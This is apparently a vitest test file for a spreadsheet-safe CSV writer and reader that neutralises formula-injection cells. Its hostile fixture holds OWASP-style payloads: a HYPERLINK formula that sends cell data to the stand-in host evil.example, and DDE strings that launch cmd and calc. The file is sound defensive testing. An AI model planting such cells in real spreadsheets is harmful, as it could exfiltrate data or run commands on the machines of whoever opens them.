// Spreadsheet-safe CSV (issue 11, item 5): formula-looking text cells from an input CSV get a
// leading ' in the baseline-metrics.csv Gate 1 writes; the reader removes exactly that prefix (a
// round trip); numbers (-5, +3.2) are left alone; JSON artifacts keep the original text.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { baselineCsv } from '../src/gates/baseline/csv.js';
import { parseBaselineCsv } from '../src/parsers/baseline-csv/index.js';
import {
  fromSpreadsheetSafe,
  spreadsheetSafe,
  spreadsheetSafeCsv,
} from '../src/parsers/baseline-csv/safe.js';

const REAL = readFileSync(path.join(import.meta.dirname, 'fixtures/protocol/baseline-metrics.csv'), 'utf8');
// the real file plus the rows an attacker would add (OWASP's examples)
const HOSTILE =
  REAL +
  [
    '=HYPERLINK("http://evil.example/?x="&A1;"click"),catalog-api,1,ms,manual,2026-11-22T09:26:31Z',
    '"@SUM(1+1)*cmd|\' /C calc\'!A0",catalog-api,2,ms,"+cmd|\' /C notepad\'!A0",2026-11-22T09:26:31Z',
    "-2+3+cmd|' /C calc'!A0,checkout-api,-5,ms,'=already quoted,2026-11-22T09:26:31Z",
    '"\tleading tab",catalog-api,+3.2,ms,"\r=cr",2026-11-22T09:26:31Z',
    '',
  ].join('\n');

describe('spreadsheet-safe cells', () => {
  it('prefixes formula starts that are not numbers; the reader removes exactly that prefix', () => {
    for (const [cell, safe] of [
      ['=1+1', "'=1+1"],
      ['+cmd', "'+cmd"],
      ['-2+3', "'-2+3"],
      ['@SUM(A1)', "'@SUM(A1)"],
      ['\tx', "'\tx"],
      ['\rx', "'\rx"],
      ["'=x", "''=x"],
      ['-5', '-5'],
      ['+3.2', '+3.2'],
      ['-1e3', '-1e3'],
      ['plain', 'plain'],
      ["'quoted", "'quoted"],
      ['', ''],
    ])
      expect([spreadsheetSafe(cell), fromSpreadsheetSafe(spreadsheetSafe(cell))]).toEqual([safe, cell]);
  });

  it('keeps every other byte of the text, quoting and line ends included', () => {
    expect(spreadsheetSafeCsv('a,=b,"=c,d",-1\r\n"x""y",@z\n')).toBe(`a,'=b,"'=c,d",-1\r\n"x""y",'@z\n`);
    expect(spreadsheetSafeCsv(REAL)).toBe(REAL); // nothing to neutralise: byte for byte
    expect(spreadsheetSafeCsv(spreadsheetSafeCsv(HOSTILE))).toBe(spreadsheetSafeCsv(HOSTILE));
  });

  it('baseline-metrics.csv neutralises hostile cells and reads back to the same rows', () => {
    const input = parseBaselineCsv(HOSTILE, 'baseline-metrics.csv');
    const text = baselineCsv({ ...input, text: HOSTILE }, []);
    expect(text).toContain(`'=HYPERLINK("http://evil.example/?x="&A1;"click"),catalog-api`);
    expect(text).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0",catalog-api,2,ms,"'+cmd|' /C notepad'!A0"`);
    expect(text).toContain(`'-2+3+cmd|' /C calc'!A0,checkout-api,-5,ms,'=already quoted`);
    expect(text).toContain(`+3.2,ms,"'\r=cr"`);
    // no cell of the output starts a formula
    const out = parseBaselineCsv(text, 'out.csv');
    expect(out.rows.map((r) => [r.metric_name, r.value, r.collection_method])).toEqual(
      input.rows.map((r) => [r.metric_name, r.value, r.collection_method]),
    );
    expect(input.rows.map((r) => r.metric_name)).toContain(
      '=HYPERLINK("http://evil.example/?x="&A1;"click")',
    );
    // rendered from rows (no original text): the same protection
    const rendered = baselineCsv({ ...input, text: undefined }, []);
    expect(rendered).toContain(`'=HYPERLINK`);
    expect(parseBaselineCsv(rendered, 'r.csv').rows.map((r) => r.metric_name)).toEqual(
      input.rows.map((r) => r.metric_name),
    );
  });
});
